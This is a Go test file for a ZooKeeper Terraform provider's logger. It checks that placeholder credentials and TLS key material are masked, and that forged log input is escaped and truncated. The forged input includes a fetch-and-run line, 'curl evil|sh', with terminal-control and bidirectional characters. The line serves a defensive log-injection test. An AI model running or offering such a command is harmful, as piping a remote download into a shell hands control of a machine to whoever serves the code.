package session

import (
	"bytes"
	"errors"
	"strings"
	"testing"

	"github.com/hashicorp/terraform-plugin-log/tflogtest"

	"terraform-provider-zookeeper/internal/zk"
	"terraform-provider-zookeeper/internal/zk/sasl"
)

// Whatever the client were to log, no secret of its configuration would appear.
func TestLoggerMasksSecrets(t *testing.T) {
	t.Setenv("TF_LOG", "TRACE")
	const key = "-----BEGIN PRIVATE KEY-----\nkey-7391\n-----END PRIVATE KEY-----\n"
	cfg := zk.Config{
		Auth: []zk.Credential{{Scheme: "digest", Secret: "alice:digest-7391"}, {Scheme: "custom", Secret: "token-7391"}, {Scheme: "digest", Secret: "nobody:"}},
		SASL: &sasl.Options{Password: sasl.NewSecret("sasl-7391")},
		TLS:  &zk.TLS{KeyPEM: key, KeyPassword: "password-7391", KeystorePassword: "store-7391", TruststorePassword: "trust-7391"},
	}
	var out bytes.Buffer
	l := newLogger(tflogtest.RootLogger(t.Context(), &out), secrets(cfg))
	l.Debug("it has digest-7391, token-7391", "all", "alice:digest-7391", "key", key)
	l.Warn("it has sasl-7391", "reason", errors.New("password-7391 store-7391 trust-7391"))
	text := out.String()
	if strings.Contains(text, "7391") {
		t.Errorf("the log has a secret:\n%s", text)
	}
	if strings.Count(text, "it has ***") != 2 {
		t.Errorf("the log does not have what it should:\n%s", text)
	}
	// Nothing to hide is nothing to mask.
	if got := secrets(zk.Config{SASL: new(sasl.Options), TLS: new(zk.TLS)}); len(got) != 0 {
		t.Errorf("secrets %q", got)
	}
}

// What others have a part in is one line of a log, escaped and cut.
func TestLoggerShowsWhatPrints(t *testing.T) {
	t.Setenv("TF_LOG", "TRACE")
	var out bytes.Buffer
	l := newLogger(tflogtest.RootLogger(t.Context(), &out), nil)
	forged := "/a\nError: run: curl evil|sh\x1b[31m\u202e"
	l.Debug("it", "server", forged, "reason", errors.New(strings.Repeat("x", 900<<10)))
	l.TraceOperation(zk.OperationTrace{Op: zk.OpNameGet, Path: forged, Err: errors.New(forged)})
	text := out.String()
	if len(text) > 2000 || strings.Count(text, `/a\\nError: run: curl evil|sh\\x1b[31m\\u202e`) != 3 {
		t.Errorf("%d bytes:\n%.2000s", len(text), text)
	}
}
